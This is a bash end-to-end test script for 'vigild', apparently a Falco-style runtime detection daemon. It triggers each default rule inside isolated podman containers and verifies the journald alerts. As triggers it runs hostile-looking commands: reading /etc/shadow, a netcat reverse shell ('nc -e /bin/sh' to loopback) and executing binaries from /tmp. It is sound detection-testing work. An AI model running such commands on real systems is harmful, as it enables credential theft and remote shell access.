#!/usr/bin/env bash
# End-to-end: a real journald, the real vigild on the default rules, real
# podman containers doing what each default rule looks for, and the alerts
# read back from `journalctl -o json`. Run as root: tests/e2e/run.sh build/vigild
set -uo pipefail

VIGILD=$(realpath "${1:-build/vigild}")
top=$(cd "$(dirname "$0")/../.." && pwd)
IMAGE=${VIGIL_TEST_IMAGE:-localhost/vigil-test:1}
work=$(mktemp -d /tmp/vigil-e2e.XXXXXX)
vigild_pid=
. "$top/tests/e2e/lib.sh"

"$top/tests/setup-host.sh" journald || exit 1
"$top/tests/setup-host.sh" podman || exit 1

cleanup() {
	[ -n "$vigild_pid" ] && kill "$vigild_pid" 2>/dev/null && wait "$vigild_pid" 2>/dev/null
	remove_containers vigil-e2e
	rm -rf "$work"
}
trap cleanup EXIT

# no_alert DESCRIPTION FIELD=VALUE...: after the pipeline has drained (a later
# sentinel alert arrived), nothing matched.
no_alert() {
	local what=$1
	shift
	sentinel
	if [ -n "$(journal_alerts "$@")" ]; then
		fail "$what: unexpected alert with $*"
	else
		pass "$what: no alert"
	fi
}

# A host event that always alerts, to know everything before it is processed.
sentinel_n=0
sentinel() {
	sentinel_n=$((sentinel_n + 1))
	local f=/etc/shadow
	sh -c "exec cat $f >/dev/null" &
	local pid=$!
	wait $pid
	wait_alert "sentinel" VIGIL_RULE="Read sensitive file untrusted" VIGIL_PROC_PID=$pid >/dev/null
}

# in_container NAME CMD...: runs CMD in a fresh --rm container; sets $cid.
in_container() {
	local name=$1
	shift
	rm -f "$work/cid"
	podman run --rm --network=none --name "$name" --cidfile "$work/cid" "$IMAGE" "$@" \
		>/dev/null 2>&1
	cid=$(cat "$work/cid")
}

expect_container() {
	expect_field "$1" VIGIL_CONTAINER_ID "${cid:0:12}"
	expect_field "$1" VIGIL_CONTAINER_FULL_ID "$cid"
	expect_field "$1" VIGIL_CONTAINER_NAME "$2"
}

since=$(date +%s)
"$VIGILD" -r "$top/rules" --stdout json --record "$work/capture.vcap" >"$work/vigild.json" \
	2>"$work/vigild.log" &
vigild_pid=$!
for _ in $(seq 100); do
	grep -q "running" "$work/vigild.log" && break
	kill -0 $vigild_pid 2>/dev/null || break
	sleep 0.1
done
if ! grep -q "running" "$work/vigild.log"; then
	cat "$work/vigild.log"
	echo "0 passed, 1 failed"
	exit 1
fi

# 1. A sensitive file read, in a container and on the host.
in_container vigil-e2e-shadow cat /etc/shadow
if wait_alert "shadow in container" VIGIL_RULE="Read sensitive file untrusted" \
	VIGIL_CONTAINER_NAME=vigil-e2e-shadow; then
	expect_container "shadow in container" vigil-e2e-shadow
	expect_field "shadow in container" VIGIL_FD_NAME /etc/shadow
	expect_field "shadow in container" PRIORITY 4
	expect_field "shadow in container" VIGIL_PRIORITY Warning
	expect_field "shadow in container" VIGIL_PROC_NAME cat
fi
sh -c 'exec cat /etc/shadow >/dev/null' &
host_pid=$!
wait $host_pid
if wait_alert "shadow on host" VIGIL_RULE="Read sensitive file untrusted" VIGIL_PROC_PID=$host_pid; then
	expect_field "shadow on host" VIGIL_CONTAINER_ID host
	expect_field "shadow on host" VIGIL_CONTAINER_NAME host
fi

# 2. Writes below /etc and /usr/bin in a container; the host is not a container.
in_container vigil-e2e-etc sh -c 'echo x > /etc/vigil-e2e'
if wait_alert "write below /etc" VIGIL_RULE="Write below etc in container" \
	VIGIL_CONTAINER_NAME=vigil-e2e-etc; then
	expect_container "write below /etc" vigil-e2e-etc
	expect_field "write below /etc" VIGIL_FD_NAME /etc/vigil-e2e
fi
in_container vigil-e2e-usrbin sh -c 'echo x > /usr/bin/vigil-e2e'
if wait_alert "write below /usr/bin" VIGIL_RULE="Write below binary dir in container" \
	VIGIL_CONTAINER_NAME=vigil-e2e-usrbin; then
	expect_container "write below /usr/bin" vigil-e2e-usrbin
	expect_field "write below /usr/bin" VIGIL_FD_NAME /usr/bin/vigil-e2e
fi
sh -c 'echo x > /etc/vigil-e2e-host; rm -f /etc/vigil-e2e-host'
no_alert "write below /etc on host" VIGIL_RULE="Write below etc in container" \
	VIGIL_CONTAINER_ID=host

# 3. A binary run from /tmp, in a container and on the host.
in_container vigil-e2e-tmp sh -c 'cp /bin/busybox /tmp/x && /tmp/x true'
if wait_alert "exec from /tmp" VIGIL_RULE="Execution from /tmp or /dev/shm" \
	VIGIL_CONTAINER_NAME=vigil-e2e-tmp; then
	expect_container "exec from /tmp" vigil-e2e-tmp
	expect_field "exec from /tmp" VIGIL_PROC_EXEPATH /tmp/x
fi
cp /bin/true /tmp/vigil-e2e-true && /tmp/vigil-e2e-true
if wait_alert "exec from /tmp on host" VIGIL_RULE="Execution from /tmp or /dev/shm" \
	VIGIL_PROC_EXEPATH=/tmp/vigil-e2e-true; then
	expect_field "exec from /tmp on host" VIGIL_CONTAINER_ID host
fi
rm -f /tmp/vigil-e2e-true

# 4. A package manager in a container.
in_container vigil-e2e-pkg apt-get install -y curl
if wait_alert "package manager" VIGIL_RULE="Package management process launched in container" \
	VIGIL_CONTAINER_NAME=vigil-e2e-pkg; then
	expect_container "package manager" vigil-e2e-pkg
	expect_field "package manager" VIGIL_PROC_NAME apt-get
fi

# 5. A netcat reverse shell.
in_container vigil-e2e-nc nc -e /bin/sh 127.0.0.1 4444
if wait_alert "netcat reverse shell" VIGIL_RULE="Netcat remote code execution in container" \
	VIGIL_CONTAINER_NAME=vigil-e2e-nc; then
	expect_container "netcat reverse shell" vigil-e2e-nc
	expect_field "netcat reverse shell" VIGIL_PROC_NAME nc
fi

# A netcat connecting out (refused: the container has only loopback).
in_container vigil-e2e-ncout nc 127.0.0.1 9
if wait_alert "netcat connect" VIGIL_RULE="Network connection by shell or netcat" \
	VIGIL_CONTAINER_NAME=vigil-e2e-ncout; then
	expect_container "netcat connect" vigil-e2e-ncout
	expect_field "netcat connect" VIGIL_FD_SIP 127.0.0.1
	expect_field "netcat connect" VIGIL_FD_SPORT 9
	expect_field "netcat connect" VIGIL_EVT_RES ECONNREFUSED
fi

# 6. A non-root process asking to become root.
rm -f "$work/cid"
podman run --rm --network=none --user 1000 --name vigil-e2e-setuid --cidfile "$work/cid" \
	"$IMAGE" become-root >/dev/null 2>&1
cid=$(cat "$work/cid")
if wait_alert "setuid(0)" VIGIL_RULE="Non-root process becomes root" \
	VIGIL_CONTAINER_NAME=vigil-e2e-setuid; then
	expect_container "setuid(0)" vigil-e2e-setuid
	expect_field "setuid(0)" VIGIL_PRIORITY Critical
	expect_field "setuid(0)" VIGIL_USER_UID 1000
fi

# 7. An interactive shell (with a terminal) in a container, as `podman exec -it`
# starts; the container's own `sh -c` entrypoint is not one.
podman run -d --network=none --name vigil-e2e-tty "$IMAGE" sh -c 'sleep 60' >"$work/cid"
cid=$(cat "$work/cid")
echo exit | script -qec "podman exec -it vigil-e2e-tty sh" /dev/null >/dev/null 2>&1
if wait_alert "terminal shell" VIGIL_RULE="Terminal shell in container" \
	VIGIL_CONTAINER_NAME=vigil-e2e-tty; then
	expect_container "terminal shell" vigil-e2e-tty
	expect_field "terminal shell" VIGIL_PROC_NAME sh
fi
podman rm -f -t 0 vigil-e2e-tty >/dev/null 2>&1
in_container vigil-e2e-notty sh -c 'true'
no_alert "sh -c entrypoint" VIGIL_RULE="Terminal shell in container" \
	VIGIL_CONTAINER_NAME=vigil-e2e-notty

# 8. The same alert as a JSON line on stdout, in Falco's shape.
line=$(grep -m1 '"container.name":"vigil-e2e-shadow"' "$work/vigild.json")
if [ -n "$line" ] && echo "$line" | jq -e '
	.rule == "Read sensitive file untrusted" and .priority == "Warning" and
	.source == "syscall" and (.tags | type) == "array" and (.hostname | length) > 0 and
	(.time | test("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:.]+Z$")) and
	(.output | test("^[0-9:.]+: Warning ")) and .output_fields."fd.name" == "/etc/shadow"' \
	>/dev/null; then
	pass "json line on stdout"
else
	fail "json line on stdout: ${line:-none}"
fi

# 9. SIGTERM stops vigild cleanly, and it reports its counters.
kill -TERM $vigild_pid
wait $vigild_pid
status=$?
vigild_pid=
if [ $status -eq 0 ] && grep -q "kernel drops ringbuf_full: 0" "$work/vigild.log"; then
	pass "clean stop with drop counters"
else
	fail "stop: exit status $status"
	cat "$work/vigild.log"
fi

# 10. The recording replays to the same alerts, offline.
alert_keys() {
	jq -c '[.rule, .output_fields."container.id", .output_fields."container.name",
		.output_fields."proc.pid"]' | sort
}
"$VIGILD" --replay "$work/capture.vcap" -r "$top/rules" >"$work/replayed.json" \
	2>"$work/replay.log"
alert_keys <"$work/vigild.json" >"$work/live.keys"
alert_keys <"$work/replayed.json" >"$work/replayed.keys"
if grep -q "^replayed [0-9]* events, [0-9]* alerts in" "$work/replay.log" &&
	[ -s "$work/live.keys" ] && cmp -s "$work/live.keys" "$work/replayed.keys"; then
	pass "replay of the recording: $(wc -l <"$work/live.keys") alerts, the same"
else
	fail "replay of the recording differs"
	diff "$work/live.keys" "$work/replayed.keys" | head
	cat "$work/replay.log"
fi

echo "$passed passed, $failed failed"
[ $failed -eq 0 ]
